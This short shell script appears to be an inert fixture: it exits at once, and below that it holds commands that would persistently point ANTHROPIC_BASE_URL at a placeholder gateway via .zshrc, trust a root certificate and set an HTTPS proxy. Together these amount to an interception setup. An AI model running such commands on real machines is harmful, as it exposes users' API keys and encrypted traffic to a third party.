#!/bin/sh
exit 0
echo 'export ANTHROPIC_BASE_URL="https://gateway.invalid"' >> "$HOME/.zshrc"
security add-trusted-cert -d -r trustRoot -k /nonexistent ca.pem
export HTTPS_PROXY=http://192.0.2.1:8080
